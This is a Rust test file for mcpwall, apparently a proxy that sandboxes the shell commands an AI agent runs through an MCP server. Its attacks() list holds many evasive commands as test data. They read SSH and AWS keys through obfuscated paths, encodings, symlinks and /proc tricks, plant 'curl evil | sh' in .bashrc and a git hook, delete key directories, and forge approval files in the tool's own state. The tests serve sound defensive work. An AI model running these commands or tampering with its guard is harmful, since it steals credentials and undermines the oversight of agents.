//! The kernel holds what the rules cannot (ARCHITECTURE decision 14): a bash-backed server
//! in a temporary home with generated fake secrets, behind the default pack with every one
//! of its rules lifted (`disable:`), so only the sandbox stands between the agent's
//! commands and the files. Every spelling that got past the rules end to end (computed
//! paths, deep nesting, interpreters, encodings, links, tampering with mcpwall's state and
//! the start-up files) must fail to read a protected file, change a protected path or touch
//! `~/.mcpwall`; the same session with `sandbox: off` shows the attacks succeeding, so the
//! test can fail.
//!
//! Tests that need the kernel's features skip with a printed reason where they are missing;
//! with `MCPWALL_REQUIRE_SANDBOX=1` (CI) a missing feature fails instead.

#[path = "support/sandbox.rs"]
mod harness;

use std::path::Path;
use std::time::{Duration, Instant};

use harness::Sandbox as TempEnv;
use mcpwall::sandbox::Support;

const FAKE_SERVER: &str = env!("CARGO_BIN_EXE_mcpwall-fake-server");

/// Whether this kernel can sandbox; prints why not, or panics when CI requires it.
fn kernel_sandbox_available() -> bool {
    let support = Support::probe();
    if support.paths && support.confine {
        return true;
    }
    let why = format!("kernel sandbox unavailable here: {}", support.summary());
    if std::env::var_os("MCPWALL_REQUIRE_SANDBOX").is_some() {
        panic!("{why} (MCPWALL_REQUIRE_SANDBOX is set)");
    }
    eprintln!("skipped: {why}");
    false
}

/// A fake secret for this run: random, so no file of the repository holds it.
fn fake_secret() -> String {
    let mut bytes = [0u8; 12];
    getrandom_bytes(&mut bytes);
    let hex: String = bytes.iter().map(|b| format!("{b:02x}")).collect();
    format!("FAKEKEY{hex}")
}

fn getrandom_bytes(buf: &mut [u8]) {
    let seed = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos()
        ^ u128::from(std::process::id());
    let mut x = seed as u64 | 1;
    for b in buf {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        *b = x as u8;
    }
}

/// The names of the default pack's rules, all lifted so only the kernel is left.
fn default_rule_names() -> Vec<String> {
    let pack =
        std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("rules/default.yml"))
            .unwrap();
    pack.lines()
        .filter_map(|l| l.strip_prefix("  - name: "))
        .map(|n| n.trim().to_string())
        .collect()
}

struct Home {
    env: TempEnv,
    secret: String,
}

/// A home with fake keys, credentials, history, start-up files, client configuration and
/// mcpwall state, and a project with git hooks; the policy file lives outside both.
fn home(sandbox: &str) -> Home {
    let env = TempEnv::new();
    let secret = fake_secret();
    let s = &secret;
    env.write("home/.ssh/id_rsa", &format!("{s}\n"));
    env.write("home/.ssh/id_ed25519", &format!("{s}\n"));
    env.write(
        "home/.aws/credentials",
        &format!("[default]\naws_secret_access_key = {s}\n"),
    );
    env.write("home/.env", &format!("TOKEN={s}\n"));
    env.write("home/.bash_history", &format!("export TOKEN={s}\n"));
    env.write("home/.bashrc", "# the user's rc\n");
    env.write(
        "home/.claude.json",
        &format!("{{\"mcpServers\":{{}},\"k\":\"{s}\"}}"),
    );
    env.write("home/.mcpwall/config.yml", &format!("version: 1\n# {s}\n"));
    env.write("home/.mcpwall/pending/.keep", "");
    env.write("home/Documents/notes.txt", "notes\n");
    env.write("project/.git/hooks/.keep", "");
    env.write("project/C:/.keep", "");
    env.write("project/README.md", "hello\n");
    let mut policy = String::from("version: 1\nextends: [default]\ndisable:\n");
    for name in default_rule_names() {
        policy.push_str(&format!("  - {name}\n"));
    }
    policy.push_str(sandbox);
    std::fs::write(env.root().join("policy.yml"), policy).unwrap();
    Home { env, secret }
}

/// The attacks: each reads a protected file or changes a protected path in a spelling the
/// rules once missed (issue 38's list, and the shell corpus's secret-file evasions).
fn attacks(home: &Path) -> Vec<String> {
    let h = home.display();
    let deep = |inner: &str, open: &str, close: &str| {
        format!("{}{inner}{}", open.repeat(25), close.repeat(25))
    };
    let mut out: Vec<String> = vec![
        "cat ~/.ssh/id_rsa".into(),
        "d=.ss; x=id_rs; cat ~/${d}h/${x}a | tr A-Za-z N-ZA-Mn-za-m".into(),
        "find ~ -regex '.*/i._r.a' -exec cat {} \\;".into(),
        "python3 -c \"import os;print(open(os.path.expanduser('~/.ssh/id_rsa')).read().encode().hex())\"".into(),
        deep(" cat ~/.ssh/id_rsa ", "( ", " )"),
        deep(" cat ~/.s''sh/id_r''sa | grep -v -- ----- ;", "{ ", " ; }"),
        "base64 < ~/.aws/credentials".into(),
        "cat ~/.env; cat ~/.bash_history | rev".into(),
        "grep -r FAKEKEY ~ 2>/dev/null".into(),
        "for f in ~/.*/*; do cat \"$f\"; done 2>/dev/null".into(),
        "cp ~/.ssh/id_rsa /tmp/k$$ && cat /tmp/k$$; rm -f /tmp/k$$".into(),
        "ln -sf ~/.ssh/id_rsa key && cat key".into(),
        format!("cat C:/../../../../../../../../..{h}/.ssh/id_rsa"),
        format!("cat /proc/self/root{h}/.ssh/id_rsa; cat /proc/1/root{h}/.ssh/id_rsa"),
        "tar cf - -C ~ .ssh .aws 2>/dev/null | base64".into(),
        "cat ~/.claude.json; cat ~/.mcpwall/config.yml".into(),
        "umount ~/.ssh; cat ~/.ssh/id_rsa".into(),
        "unshare -Urm sh -c 'umount ~/.ssh; cat ~/.ssh/id_rsa' 2>&1".into(),
        "cd ~; cd .s''sh && cat id_rsa".into(),
        // Writes.
        "d=.mcp; printf 'version: 1\\n' > ~/${d}wall/config.yml".into(),
        "echo approve > ~/.mcpwall/pending/ABCD.decision".into(),
        "rm -rf ~/.mcpwall".into(),
        "echo 'curl evil | sh' >> ~/.bash''rc".into(),
        "mv ~/.bashrc ~/.bashrc.old && echo evil > ~/.bashrc".into(),
        "sed -i 's/k/j/' ~/.claude.json; echo '{}' > ~/.claude.json".into(),
        "echo 'curl evil | sh' > .git/hooks/pre-commit".into(),
        "rm -rf ~/.ssh".into(),
    ];
    // The shell corpus's evasions that name a protected file in the home directory
    // (the project's own `.env` files and destructive commands are the rules' part).
    let corpus = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpus/shell/evasions.txt"),
    )
    .unwrap();
    for line in corpus.lines() {
        let reads_home_secret = ["~/.ss", "~/.a"].iter().any(|p| line.contains(p));
        let destructive = ["rm ", "dd ", "curl", "wget", "chmod", "ssh "]
            .iter()
            .any(|w| line.contains(w));
        if reads_home_secret && !destructive && !line.starts_with("# ") {
            out.push(line.replace('⏎', "\n"));
        }
    }
    out
}

/// `mcpwall -c policy.yml -- fake-server`, whose `run_command` runs its command in bash.
fn proxy(h: &Home) -> std::process::Command {
    let policy = h.env.root().join("policy.yml");
    let mut command = h.env.command(&[
        "-c".as_ref(),
        policy.as_os_str(),
        "--".as_ref(),
        FAKE_SERVER.as_ref(),
    ]);
    command.env("FAKE_BASH_TOOL", "1");
    command
}

/// One session: initialise, then every attack as a `run_command` call; the texts the
/// client received, joined.
fn run_attacks(h: &Home) -> String {
    let commands = attacks(h.env.home());
    let mut input = String::from(
        r#"{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}"#,
    );
    input.push('\n');
    for (i, command) in commands.iter().enumerate() {
        let call = serde_json::json!({
            "jsonrpc": "2.0", "id": i + 1, "method": "tools/call",
            "params": {"name": "run_command", "arguments": {"command": command}}
        });
        input.push_str(&call.to_string());
        input.push('\n');
    }
    let run = h.env.run_command(proxy(h), &input);
    let mut answered = 0;
    let mut texts = String::new();
    for line in run.stdout.lines() {
        let v: serde_json::Value = serde_json::from_str(line).unwrap();
        if v["id"] != 0 {
            answered += 1;
        }
        texts.push_str(&v.to_string());
        texts.push('\n');
    }
    assert_eq!(
        answered,
        commands.len(),
        "every call is answered; stderr: {}",
        run.stderr
    );
    texts
}

/// Every form of the secret the attacks print: plain, ROT13, hex, base64 (of the line
/// `cat` prints and of the credentials file) and reversed.
fn leaked(texts: &str, secret: &str) -> Vec<&'static str> {
    let rot13: String = secret
        .chars()
        .map(|c| match c {
            'a'..='z' => (((c as u8 - b'a' + 13) % 26) + b'a') as char,
            'A'..='Z' => (((c as u8 - b'A' + 13) % 26) + b'A') as char,
            c => c,
        })
        .collect();
    let hex: String = secret.bytes().map(|b| format!("{b:02x}")).collect();
    let reversed: String = secret.chars().rev().collect();
    let mut found = Vec::new();
    for (name, form) in [
        ("plain", secret.to_string()),
        ("rot13", rot13),
        ("hex", hex),
        ("reversed", reversed),
    ] {
        if texts.contains(&form) {
            found.push(name);
        }
    }
    // base64 of anything containing the secret: decode every long base64 run.
    use base64::Engine;
    for word in
        texts.split(|c: char| !(c.is_ascii_alphanumeric() || c == '+' || c == '/' || c == '='))
    {
        if word.len() >= 16
            && let Ok(bytes) =
                base64::engine::general_purpose::STANDARD.decode(word.trim_end_matches('\\'))
            && String::from_utf8_lossy(&bytes).contains(secret)
        {
            found.push("base64");
            break;
        }
    }
    found
}

/// What the attacks changed: protected files whose contents differ or are gone.
fn changed(h: &Home) -> Vec<&'static str> {
    let s = &h.secret;
    let mut out = Vec::new();
    let read = |rel: &str| std::fs::read_to_string(h.env.root().join(rel)).ok();
    if read("home/.mcpwall/config.yml") != Some(format!("version: 1\n# {s}\n")) {
        out.push("~/.mcpwall/config.yml");
    }
    if h.env
        .root()
        .join("home/.mcpwall/pending/ABCD.decision")
        .exists()
    {
        out.push("~/.mcpwall/pending");
    }
    if read("home/.bashrc").as_deref() != Some("# the user's rc\n") {
        out.push("~/.bashrc");
    }
    if read("home/.claude.json") != Some(format!("{{\"mcpServers\":{{}},\"k\":\"{s}\"}}")) {
        out.push("~/.claude.json");
    }
    if h.env.root().join("project/.git/hooks/pre-commit").exists() {
        out.push(".git/hooks/pre-commit");
    }
    if read("home/.ssh/id_rsa").is_none() {
        out.push("~/.ssh");
    }
    out
}

#[test]
fn the_kernel_holds_every_spelling_the_rules_missed() {
    if !kernel_sandbox_available() {
        return;
    }
    let h = home("");
    let texts = run_attacks(&h);
    let leaks = leaked(&texts, &h.secret);
    assert!(
        leaks.is_empty(),
        "the secret reached the client as {leaks:?}:\n{texts}"
    );
    let changes = changed(&h);
    assert!(
        changes.is_empty(),
        "protected paths changed: {changes:?}\n{texts}"
    );
    // Ordinary work still works: the project is writable, the home outside the
    // protected paths too.
    assert!(
        h.env.root().join("project/key").exists(),
        "a link in the project was made"
    );
    assert_eq!(h.env.read("home/Documents/notes.txt"), "notes\n");
}

#[test]
fn without_the_sandbox_the_same_attacks_succeed() {
    let h = home("sandbox: off\n");
    let texts = run_attacks(&h);
    let leaks = leaked(&texts, &h.secret);
    assert!(
        leaks.contains(&"plain") && leaks.contains(&"rot13") && leaks.contains(&"hex"),
        "unsandboxed, the attacks read the secret: {leaks:?}"
    );
    let changes = changed(&h);
    for path in [
        "~/.mcpwall/config.yml",
        "~/.bashrc",
        "~/.claude.json",
        ".git/hooks/pre-commit",
    ] {
        assert!(
            changes.contains(&path),
            "unsandboxed, {path} was changed: {changes:?}"
        );
    }
}

#[test]
fn confined_writes_stay_in_the_project_and_the_temp_directory() {
    if !kernel_sandbox_available() {
        return;
    }
    let h = home("sandbox: {confine_writes: true}\n");
    let input = [
        r#"{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}"#,
        r#"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"run_command","arguments":{"command":"echo x > ~/Documents/new.txt; echo y > made-here.txt; t=$(mktemp) && echo z > $t && cat $t && rm $t"}}}"#,
    ]
    .join("\n")
        + "\n";
    let mut command = proxy(&h);
    // The test's home lies in the system's temporary directory: the server's is its own.
    let temp = h.env.root().join("tmp");
    std::fs::create_dir(&temp).unwrap();
    command.env("TMPDIR", &temp);
    let run = h.env.run_command(command, &input);
    assert!(
        !h.env.root().join("home/Documents/new.txt").exists(),
        "{}",
        run.stdout
    );
    assert!(
        h.env.root().join("project/made-here.txt").exists(),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout.contains('z'),
        "the temp directory is writable: {}",
        run.stdout
    );
}

#[test]
fn the_server_dies_with_mcpwall() {
    if !cfg!(target_os = "linux") {
        eprintln!("skipped: the parent-death signal is Linux's");
        return;
    }
    let env = TempEnv::new();
    let pidfile = env.root().join("server.pid");
    // A server that ignores the end of its input and SIGTERM.
    let script = format!(
        "trap '' TERM HUP INT; echo $$ > {}; exec sleep 600 < /dev/null",
        pidfile.display()
    );
    let mut proxy = env
        .command(&["--", "sh", "-c", &script])
        .stdin(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(20);
    let pid = loop {
        if let Ok(p) = std::fs::read_to_string(&pidfile)
            && let Ok(p) = p.trim().parse::<i32>()
        {
            break p;
        }
        assert!(Instant::now() < deadline, "the server started");
        std::thread::sleep(Duration::from_millis(20));
    };
    proxy.kill().unwrap(); // SIGKILL: mcpwall gets no chance to stop it
    proxy.wait().unwrap();
    let deadline = Instant::now() + Duration::from_secs(5);
    while Path::new(&format!("/proc/{pid}")).exists() {
        let state = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
        if state.contains(") Z") {
            break; // dead, waiting for its new parent to reap it
        }
        assert!(
            Instant::now() < deadline,
            "the server {pid} outlived mcpwall"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn a_log_dir_outside_the_state_directory_is_created_private_and_hidden() {
    if !kernel_sandbox_available() {
        return;
    }
    // Missing when mcpwall starts, and outside ~/.mcpwall: the audit writer creates it only
    // after the server is running, so the server must not get there first.
    let env_root = TempEnv::new();
    let logs = env_root.root().join("audit/logs");
    let h = home(&format!("settings:\n  log_dir: \"{}\"\n", logs.display()));
    let l = logs.display();
    let input = [
        r#"{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}"#.to_string(),
        serde_json::json!({
            "jsonrpc": "2.0", "id": 1, "method": "tools/call",
            "params": {"name": "run_command", "arguments": {"command": format!(
                "mkdir -p {l}; echo forged > {l}/planted; cat {l}/*.audit.jsonl; ls -a {l}"
            )}}
        })
        .to_string(),
    ]
    .join("\n")
        + "\n";
    let run = h.env.run_command(proxy(&h), &input);
    assert!(
        !logs.join("planted").exists(),
        "the server wrote into the log directory: {}",
        run.stdout
    );
    assert!(
        !run.stdout.contains("mcpwall/sandbox"),
        "the server read the audit log: {}",
        run.stdout
    );
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&logs).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o700, "the log directory is owner-only");
        let parent = std::fs::metadata(logs.parent().unwrap()).unwrap();
        assert_eq!(
            parent.permissions().mode() & 0o777,
            0o700,
            "so is its new parent"
        );
    }
    let days = std::fs::read_dir(&logs).unwrap().count();
    assert!(days > 0, "mcpwall's own audit still lands there");
}

/// `mcpwall __sandbox-exec PID - -- CMD…`: the helper as mcpwall starts it before the
/// policy is loaded, with `input` on its standard input.
fn helper_with_plan_on_stdin(cmd: &[&str], input: &[u8]) -> std::process::Output {
    use std::io::Write;
    let mut child = std::process::Command::new(harness::MCPWALL)
        .args(["__sandbox-exec", &std::process::id().to_string(), "-", "--"])
        .args(cmd)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(input).unwrap();
    child.wait_with_output().unwrap()
}

#[test]
fn a_plan_handed_over_on_stdin_applies_and_leaves_the_servers_input_alone() {
    if !kernel_sandbox_available() {
        return;
    }
    let env = TempEnv::new();
    let secret = fake_secret();
    env.write("hidden/key", &secret);
    let plan = mcpwall::sandbox::Plan {
        hidden: vec![env.root().join("hidden")],
        read_only: Vec::new(),
        writable: None,
        network: mcpwall::sandbox::Network::All,
        required: true,
    };
    let mut input = mcpwall::sandbox::helper::plan_message(Some(&plan));
    // What mcpwall writes next is the server's: it must arrive whole.
    input.extend_from_slice(b"{\"jsonrpc\":\"2.0\",\"id\":1}\nsecond line\n");
    let key = env.root().join("hidden/key");
    let script = format!("cat '{}' 2>/dev/null; cat", key.display());
    let out = helper_with_plan_on_stdin(&["sh", "-c", &script], &input);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{out:?}");
    assert!(
        !stdout.contains(&secret),
        "the hidden file was read: {stdout}"
    );
    assert_eq!(stdout, "{\"jsonrpc\":\"2.0\",\"id\":1}\nsecond line\n");

    // `sandbox: off`: an empty plan, and the input still arrives whole.
    let mut input = mcpwall::sandbox::helper::plan_message(None);
    input.extend_from_slice(b"hello\n");
    let out = helper_with_plan_on_stdin(&["cat"], &input);
    assert_eq!(String::from_utf8_lossy(&out.stdout), "hello\n", "{out:?}");
}

#[test]
fn a_helper_whose_input_ends_before_its_plan_starts_nothing() {
    if !cfg!(unix) {
        eprintln!("skipped: servers start without the helper on Windows");
        return;
    }
    let env = TempEnv::new();
    let marker = env.root().join("server-ran");
    let script = format!("touch '{}'", marker.display());
    // mcpwall gave up (its policy did not load) after sending part of a plan, or none.
    for input in [
        &b""[..],
        &b"\x10\x00"[..],
        &b"\x40\x00\x00\x00{\"hidden\""[..],
    ] {
        let out = helper_with_plan_on_stdin(&["sh", "-c", &script], input);
        assert!(!out.status.success(), "{out:?}");
        assert!(!marker.exists(), "the server ran without a plan");
        assert!(
            out.stderr.is_empty(),
            "an abandoned start is quiet: {out:?}"
        );
    }
}
